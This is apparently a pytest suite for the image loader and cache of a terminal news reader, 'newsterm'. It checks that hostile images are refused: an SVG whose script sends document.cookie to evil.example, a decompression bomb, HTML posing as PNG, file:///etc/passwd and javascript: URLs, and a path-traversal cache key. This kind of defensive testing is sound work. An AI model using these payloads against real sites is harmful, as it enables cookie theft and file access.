"""Pictures for the reader, end to end: a real server on 127.0.0.1 serves every kind of
picture and every kind of trouble, a real worker pool decodes, a real folder caches.

Each case gets its treatment: the four web formats are shown scaled; an oversized file,
a decompression bomb, a truncated file, HTML posing as a PNG, an SVG with a script and a
1×1 pixel are refused with their reason (and the refusal is remembered); a server that
drips holds up nobody else; a picture read once loads with the server gone; the cache
stays under its cap and clears.
"""

from __future__ import annotations

import asyncio
import io
import os
import random
import time
from collections.abc import AsyncIterator, Callable, Iterator
from pathlib import Path

import pytest
from PIL import Image

from tests.support.feedserver import FeedServer, Reply
from tui.core.images.cache import ImageCache
from tui.core.images.load import ImageLoader, is_tracker
from tui.core.images.picture import NoPicture, Picture
from tui.core.settings import ArticleSettings, Settings, UISettings
from tui.core.workers.pool import WorkerPool

MB = 1024 * 1024
# A 1 MB cap, so that the oversized picture is small to make; a deadline short enough
# for the drip test to end soon, long enough for a loopback fetch on a busy machine.
SETTINGS = Settings(ui=UISettings(max_image_mb=1), articles=ArticleSettings(deadline=4.0))
RED = (255, 0, 0)
BLUE = (0, 0, 255)


def _saved(image: Image.Image, pil_format: str, **options: object) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, pil_format, **options)
    return buffer.getvalue()


def _photo(pil_format: str) -> bytes:
    """600×400: red above, blue below."""
    image = Image.new("RGB", (600, 400), BLUE)
    image.paste(RED, (0, 0, 600, 200))
    return _saved(image, pil_format)


def _picture(result: Picture | NoPicture) -> Picture:
    assert isinstance(result, Picture), result
    assert len(result.rgb) == result.width * result.height * 3
    return result


def _top_and_bottom(picture: Picture) -> tuple[bytes, bytes]:
    middle = picture.width // 2 * 3
    last_row = (picture.height - 1) * picture.width * 3
    return picture.rgb[middle : middle + 3], picture.rgb[last_row + middle : last_row + middle + 3]


SCRIPTED_SVG = b"""<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100" onload="alert(1)">
<script>fetch('https://evil.example/?c=' + document.cookie)</script>
<rect width="100" height="100" fill="red"/></svg>"""

KINDS = {
    "/photo.png": ("image/png", "PNG"),
    "/photo.jpg": ("image/jpeg", "JPEG"),
    "/photo.gif": ("image/gif", "GIF"),
    "/photo.webp": ("image/webp", "WEBP"),
}


def _refusals() -> dict[str, tuple[Reply, str]]:
    """path → (what the server sends, the reason the reader shows)."""
    oversized = _photo("PNG")[:64] + random.Random(13).randbytes(int(1.5 * MB))
    bomb = _saved(Image.new("1", (20000, 20000)), "PNG", optimize=True)  # 400 Mpx, ~50 KB
    noisy = _saved(Image.effect_noise((300, 300), 80).convert("RGB"), "JPEG")
    html = b"<!DOCTYPE html><html><body><h1>Please sign in to the Wi-Fi</h1></body></html>"
    return {
        "/oversized.png": (Reply(200, oversized, {"Content-Type": "image/png"}), "too large"),
        "/bomb.png": (Reply(200, bomb, {"Content-Type": "image/png"}), "too many pixels"),
        "/truncated.jpg": (
            Reply(200, noisy[: len(noisy) // 2], {"Content-Type": "image/jpeg"}),
            "broken image",
        ),
        "/portal.png": (Reply(200, html, {"Content-Type": "image/png"}), "not an image"),
        "/drawing": (
            Reply(200, SCRIPTED_SVG, {"Content-Type": "image/svg+xml"}),
            "SVG not shown",
        ),
        "/sneaky.png": (Reply(200, SCRIPTED_SVG, {"Content-Type": "image/png"}), "SVG not shown"),
        "/counter.gif?u=42": (
            Reply(200, _saved(Image.new("RGB", (1, 1)), "GIF"), {"Content-Type": "image/gif"}),
            "tracking pixel",
        ),
        "/real-png-as-html": (
            Reply(200, _photo("PNG"), {"Content-Type": "text/html"}),
            "not an image",
        ),
        "/scan.tiff": (
            Reply(200, _saved(Image.new("RGB", (20, 20)), "TIFF"), {"Content-Type": "image/tiff"}),
            "format not supported",
        ),
        "/missing.png": (Reply(404, b"not found", {"Content-Type": "text/html"}), "HTTP 404"),
    }


REFUSALS = _refusals()


@pytest.fixture(scope="module")
def pool() -> Iterator[WorkerPool]:
    workers = WorkerPool(workers=2)
    workers.start()  # the fork server and a worker, before the first test's clock runs
    yield workers
    workers.close()


@pytest.fixture
def cache(tmp_path: Path) -> ImageCache:
    return ImageCache(tmp_path / "images", 50 * MB)


@pytest.fixture
async def loader(cache: ImageCache, pool: WorkerPool) -> AsyncIterator[ImageLoader]:
    opened = ImageLoader(SETTINGS, cache, pool)
    yield opened
    await opened.aclose()


def _serve_all(server: FeedServer) -> None:
    for path, (content_type, pil_format) in KINDS.items():
        server.route(path, Reply(200, _photo(pil_format), {"Content-Type": content_type}))
    for path, (reply, _reason) in REFUSALS.items():
        server.route(path.split("?")[0], reply)


# -- shown ---------------------------------------------------------------------------


@pytest.mark.parametrize("path", list(KINDS))
async def test_each_web_format_is_shown_scaled_to_fit(
    server: FeedServer, loader: ImageLoader, path: str
) -> None:
    _serve_all(server)

    picture = _picture(await loader.load(server.url(path), 300, 300))

    assert (picture.width, picture.height) == (300, 200)
    top, bottom = _top_and_bottom(picture)
    assert top[0] > 200 > top[2] and bottom[2] > 200 > bottom[0]  # red above, blue below
    (request,) = server.hits(path)
    assert request.headers["accept"].startswith("image/")
    assert "cookie" not in request.headers and "referer" not in request.headers
    assert request.headers["user-agent"].startswith("newsterm/")


async def test_a_picture_read_once_is_not_fetched_again_at_another_size(
    server: FeedServer, loader: ImageLoader
) -> None:
    _serve_all(server)
    url = server.url("/photo.jpg")

    small, large = await asyncio.gather(loader.load(url, 60, 60), loader.load(url, 450, 450))
    again = await loader.load(url, 150, 150)

    assert [(p.width, p.height) for p in map(_picture, (small, large, again))] == [
        (60, 40),
        (450, 300),
        (150, 100),
    ]
    assert len(server.hits("/photo.jpg")) == 1  # two at once fetched it once; then the cache


# -- refused -------------------------------------------------------------------------


@pytest.mark.parametrize("path", list(REFUSALS))
async def test_each_kind_of_trouble_gets_its_reason_and_is_remembered(
    server: FeedServer, loader: ImageLoader, path: str
) -> None:
    _serve_all(server)
    reason = REFUSALS[path][1]

    first = await loader.load(server.url(path), 400, 400)
    second = await loader.load(server.url(path), 400, 400)

    assert first == NoPicture(reason)
    assert second == NoPicture(reason)
    assert len(server.hits(path.split("?")[0])) == 1  # not fetched on every open


async def test_a_server_error_is_not_remembered(server: FeedServer, loader: ImageLoader) -> None:
    server.route("/busy.png", Reply(503, b"try later", {"Content-Type": "text/plain"}))

    assert await loader.load(server.url("/busy.png"), 100, 100) == NoPicture("HTTP 503")
    assert await loader.load(server.url("/busy.png"), 100, 100) == NoPicture("HTTP 503")
    assert len(server.hits("/busy.png")) == 2


@pytest.mark.parametrize(
    ("url", "reason"),
    [
        ("https://pixel.wp.com/g.gif?blog=1&post=2", "tracking pixel"),
        ("https://stats.wordpress.com/b.gif?v=noscript", "tracking pixel"),
        ("https://www.google-analytics.com/collect?v=1&t=event", "tracking pixel"),
        ("https://ad.doubleclick.net/ddm/ad/N1234.gif", "tracking pixel"),
        ("https://feeds.feedburner.com/~r/Example/~4/AbCdEf", "tracking pixel"),
        ("https://www.facebook.com/tr?id=1&ev=PageView", "tracking pixel"),
        ("https://medium.com/_/stat?event=post.clientViewed", "tracking pixel"),
        ("file:///etc/passwd", "not a web address"),
        ("data:image/png;base64,iVBORw0KGgo=", "not a web address"),
        ("javascript:alert(1)", "not a web address"),
        ("/relative/picture.png", "not a web address"),
    ],
)
async def test_never_fetched(loader: ImageLoader, url: str, reason: str) -> None:
    # None of these hosts is reachable from the tests: a fetch would say "offline".
    assert await loader.load(url, 100, 100) == NoPicture(reason)


async def test_an_svg_address_is_not_fetched(server: FeedServer, loader: ImageLoader) -> None:
    server.route("/logo.svg", Reply(200, SCRIPTED_SVG, {"Content-Type": "image/svg+xml"}))
    assert await loader.load(server.url("/logo.svg"), 100, 100) == NoPicture("SVG not shown")
    assert server.hits("/logo.svg") == []


@pytest.mark.parametrize(
    ("url", "tracker"),
    [
        ("https://b.scorecardresearch.com/p?c1=2", True),
        ("https://SB.ScorecardResearch.com./b?c1=2", True),  # case and a trailing dot
        ("https://pixel.quantserve.com/pixel/p-abc.gif", True),
        ("https://stats.g.doubleclick.net/r/collect", True),
        ("https://example.com/images/1x1.gif", True),
        ("https://feeds.feedburner.com/Example", False),  # the feed itself, not a beacon
        ("https://medium.com/max/1024/photo.jpeg", False),
        ("https://www.facebook.com/photo.jpg", False),
        ("https://notdoubleclick.net/photo.jpg", False),
        ("https://cdn.example.com/2024/05/pixel-art.png", False),
        ("http://[::1/broken", False),
    ],
)
def test_known_beacons(url: str, tracker: bool) -> None:
    assert is_tracker(url) is tracker


# -- a slow server -------------------------------------------------------------------


async def test_a_dripping_server_holds_up_no_other_picture(
    server: FeedServer, loader: ImageLoader
) -> None:
    _serve_all(server)
    # A PNG signature, then a byte every 0.2 s: about 20 s, far past the 4 s deadline.
    drip = (b"\x89PNG\r\n\x1a\n" if n == 0 else b"\x00" for n in range(100))
    server.route("/drip.png", Reply(200, drip, {"Content-Type": "image/png"}, 0.2))

    dripping = asyncio.create_task(loader.load(server.url("/drip.png"), 200, 200))
    others = [asyncio.create_task(loader.load(server.url(path), 200, 200)) for path in KINDS]
    done, _ = await asyncio.wait(others)

    assert not dripping.done()  # every other picture arrived while it dripped
    assert all(isinstance(task.result(), Picture) for task in done)
    assert await dripping == NoPicture("timed out")


# -- offline -------------------------------------------------------------------------


async def test_a_picture_read_once_shows_with_the_server_gone(
    loader: ImageLoader, cache: ImageCache, pool: WorkerPool
) -> None:
    with FeedServer() as server:
        _serve_all(server)
        online = _picture(await loader.load(server.url("/photo.png"), 300, 300))
        svg = await loader.load(server.url("/drawing"), 300, 300)
        never_read = server.url("/photo.webp")
    # A later session: a loader of its own (the first one's kept-alive connection would
    # still reach the stopped server's handler thread), the same cache.
    later = ImageLoader(SETTINGS, cache, pool)
    try:
        offline = _picture(await later.load(server.url("/photo.png"), 300, 300))
        assert offline == online
        assert await later.load(server.url("/drawing"), 300, 300) == svg  # remembered too
        assert await later.load(never_read, 300, 300) == NoPicture("offline")
    finally:
        await later.aclose()


async def test_after_closing_nothing_is_loaded(server: FeedServer, loader: ImageLoader) -> None:
    _serve_all(server)
    await loader.aclose()
    assert await loader.load(server.url("/photo.png"), 100, 100) == NoPicture("not loaded")
    assert server.hits("/photo.png") == []


# -- the cache -----------------------------------------------------------------------


def _entries(folder: Path) -> list[Path]:
    return sorted(p for p in folder.iterdir() if p.is_file())


def test_many_puts_stay_under_the_cap_and_the_newest_survive(tmp_path: Path) -> None:
    cache = ImageCache(tmp_path / "images", 100_000)
    urls = [f"https://example.com/p/{n}.jpg" for n in range(60)]
    for n, url in enumerate(urls):
        cache.put(url, bytes([n]) * 9_000)
        assert sum(p.stat().st_size for p in _entries(tmp_path / "images")) <= 100_000

    assert cache.size() <= 100_000
    kept = [url for url in urls if cache.get(url) is not None]
    assert len(kept) >= 8
    assert kept == urls[-len(kept) :]  # oldest out first
    assert cache.get(urls[-1]) == bytes([59]) * 9_000


def test_reading_a_picture_keeps_it_longer(tmp_path: Path) -> None:
    folder = tmp_path / "images"
    cache = ImageCache(folder, 100_000)
    long_ago = time.time() - 10_000

    def put_long_ago(url: str, n: int) -> None:
        before = set(_entries(folder)) if folder.exists() else set()
        cache.put(url, b"x" * 9_000)
        (new,) = set(_entries(folder)) - before
        os.utime(new, (long_ago + n, long_ago + n))  # a second apart: the order is certain

    first = "https://example.com/first.png"
    put_long_ago(first, 0)
    for n in range(1, 30):
        put_long_ago(f"https://example.com/{n}.png", n)
        assert cache.get(first) is not None  # read between every put: the latest use

    assert cache.get("https://example.com/1.png") is None  # never read again: gone
    assert cache.get("https://example.com/29.png") is not None


def test_clear_empties_the_folder_and_says_how_much(tmp_path: Path) -> None:
    folder = tmp_path / "images"
    cache = ImageCache(folder, 1_000_000)
    for n in range(5):
        cache.put(f"https://example.com/{n}.png", b"p" * 1000)
    cache.refuse("https://example.com/x.svg", "SVG not shown", for_seconds=60)
    (folder / "notes.txt").write_text("not ours")  # left alone
    total = sum(p.stat().st_size for p in _entries(folder) if p.name != "notes.txt")

    assert cache.clear() == (6, total)

    assert [p.name for p in _entries(folder)] == ["notes.txt"]
    assert cache.size() == 0
    assert cache.get("https://example.com/0.png") is None
    assert cache.refused("https://example.com/x.svg") is None
    assert ImageCache(tmp_path / "never-made", 1000).clear() == (0, 0)


def test_files_are_named_by_us_never_by_the_feed(tmp_path: Path) -> None:
    folder = tmp_path / "images"
    cache = ImageCache(folder, 1_000_000)
    hostile = "https://example.com/../../../../etc/passwd?/../x\x00.png"
    cache.put(hostile, b"data")
    (entry,) = _entries(folder)
    assert entry.parent == folder
    assert len(entry.stem) == 40 and all(c in "0123456789abcdef" for c in entry.stem)
    assert cache.get(hostile) == b"data"


@pytest.mark.parametrize(
    "damage",
    [
        lambda blob: blob[: len(blob) // 2],  # cut short
        lambda blob: blob[:-1] + bytes([blob[-1] ^ 1]),  # one bit flipped
        lambda blob: b"",
        lambda blob: b"\x89PNG\r\n\x1a\n" + blob,  # not our header
    ],
)
def test_a_damaged_entry_is_a_miss_and_goes(
    tmp_path: Path, damage: Callable[[bytes], bytes]
) -> None:
    folder = tmp_path / "images"
    cache = ImageCache(folder, 1_000_000)
    cache.put("https://example.com/a.png", b"picture bytes" * 100)
    (entry,) = _entries(folder)
    entry.write_bytes(damage(entry.read_bytes()))

    assert cache.get("https://example.com/a.png") is None
    assert cache.refused("https://example.com/a.png") is None
    assert _entries(folder) == []


def test_an_unreadable_folder_is_a_miss_not_a_crash(tmp_path: Path) -> None:
    blocked = tmp_path / "a-file-not-a-folder"
    blocked.write_text("x")
    cache = ImageCache(blocked, 1_000_000)
    cache.put("https://example.com/a.png", b"data")  # nowhere to keep it: not kept
    assert cache.get("https://example.com/a.png") is None
    assert cache.size() == 0


def test_a_refusal_is_kept_until_it_expires(tmp_path: Path) -> None:
    cache = ImageCache(tmp_path / "images", 1_000_000)
    cache.refuse("https://example.com/a", "HTTP 404", for_seconds=3600)
    cache.refuse("https://example.com/b", "HTTP 404", for_seconds=-1)

    assert cache.refused("https://example.com/a") == "HTTP 404"
    assert cache.get("https://example.com/a") is None  # a refusal is no picture
    assert cache.refused("https://example.com/b") is None
    cache.put("https://example.com/a", b"it is back")  # a picture replaces a refusal
    assert cache.refused("https://example.com/a") is None


def test_two_processes_share_the_folder_and_its_cap(tmp_path: Path) -> None:
    # Two caches over one folder, as two newsterm processes have: each trims what the
    # other wrote too, and reads what the other kept.
    folder = tmp_path / "images"
    one, two = ImageCache(folder, 100_000), ImageCache(folder, 100_000)
    for n in range(8):
        one.put(f"https://example.com/one/{n}", b"1" * 9_000)
    assert two.get("https://example.com/one/7") == b"1" * 9_000
    for n in range(20):
        two.put(f"https://example.com/two/{n}", b"2" * 9_000)

    assert sum(p.stat().st_size for p in _entries(folder)) <= 100_000
    assert one.get("https://example.com/one/0") is None  # the oldest, trimmed by two
    assert two.get("https://example.com/two/19") == b"2" * 9_000
    assert one.size() == two.size() <= 100_000


def test_a_temporary_file_left_by_a_dead_process_is_cleaned(tmp_path: Path) -> None:
    folder = tmp_path / "images"
    cache = ImageCache(folder, 1_000_000)
    cache.put("https://example.com/a.png", b"data")
    stale, fresh = folder / ".tmp-dead", folder / ".tmp-writing"
    stale.write_bytes(b"x" * 100)
    fresh.write_bytes(b"x" * 100)
    os.utime(stale, (time.time() - 7200, time.time() - 7200))

    cache.size()

    assert not stale.exists()
    assert fresh.exists()  # another process may be writing it now


def test_a_picture_larger_than_the_cap_is_not_kept(tmp_path: Path) -> None:
    cache = ImageCache(tmp_path / "images", 10_000)
    cache.put("https://example.com/small.png", b"s" * 1000)
    cache.put("https://example.com/huge.png", b"h" * 20_000)
    assert cache.get("https://example.com/huge.png") is None
    assert cache.get("https://example.com/small.png") == b"s" * 1000  # nothing pushed out
